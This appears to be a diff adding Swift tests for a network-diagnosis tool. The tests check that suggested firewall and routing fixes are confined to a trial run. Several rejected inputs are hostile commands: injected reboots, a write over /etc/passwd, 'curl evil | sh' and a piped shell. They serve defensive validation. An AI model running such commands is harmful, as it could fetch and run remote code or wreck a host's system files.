@@ -1,0 +1,52 @@
+import Testing
+import Trace
+
+@Suite struct RemedyTrialTests {
+  /// What is tried by itself changes nothing but the copy.
+  @Test(arguments: [
+    ("nft insert rule inet fw forward handle 2 ip saddr 10.0.0.1 accept", true),
+    ("iptables -I INPUT 1 -p tcp --dport 22 -j ACCEPT && ip6tables -I INPUT 1 -j ACCEPT", true),
+    ("nft add rule ip nat post 'ip saddr 10.0.0.0/8 oifname \"a;b\" masquerade'", true),
+    ("ip route add 10.0.0.0/8 dev eth0", true), ("sysctl -w net.ipv4.ip_forward=1", true),
+    ("ufw allow 22/tcp", false), ("firewall-cmd --add-port=22/tcp", false),
+    ("iptables -I INPUT 1 -j ACCEPT && ufw reload", false),
+    ("ip netns exec other ip link set eth0 up", false), ("ip -n other link set eth0 up", false),
+    ("sysctl -w kernel.panic=1", false), ("sysctl -p /etc/sysctl.conf", false),
+    ("nft list ruleset; reboot", false), ("nft list ruleset | sh", false),
+    ("nft list ruleset >/etc/passwd", false), ("nft $(reboot)", false), ("nft 'open", false),
+    ("", false), ("nft list ruleset && ", false),
+  ])
+  func whatIsConfined(_ remedy: String, _ isConfined: Bool) {
+    #expect(RemedyTrial.isConfined(remedy) == isConfined)
+  }
+
+  @Test func trialsAreKeptInSessions() throws {
+    let trial = RemedyTrial(
+      remedy: "nft flush ruleset", isThrough: true,
+      obstacles: [
+        .init(id: "policy-drop", summary: "it is dropped", remedy: "iptables -P INPUT ACCEPT"),
+        .init(id: "no-route", summary: "there is none"),
+      ])
+    #expect(RemedyTrial(json: trial.json) == trial)
+    #expect(Note(json: Note.rehearsed(trial).json) == .rehearsed(trial))
+    // A command of somebody else's is not one to paste.
+    var hostile = trial
+    hostile.obstacles[0].remedy = "curl evil | sh"
+    #expect(RemedyTrial(json: hostile.json)?.obstacles[0].remedy == nil)
+  }
+
+  @Test func whatHelps() {
+    let cause = Finding(
+      id: FindingID(rawValue: "policy-drop"), severity: .error, confidence: .certain,
+      summary: "dropped")
+    func trial(_ isThrough: Bool, _ met: (String, String)...) -> RemedyTrial {
+      RemedyTrial(
+        remedy: "nft x", isThrough: isThrough, obstacles: met.map { .init(id: $0.0, summary: $0.1) }
+      )
+    }
+    #expect(trial(true).helps(against: cause))
+    #expect(trial(false, ("no-route", "none")).helps(against: cause))
+    #expect(!trial(false, ("policy-drop", "dropped")).helps(against: cause))
+    #expect(!trial(false).helps(against: cause))
+  }
+}
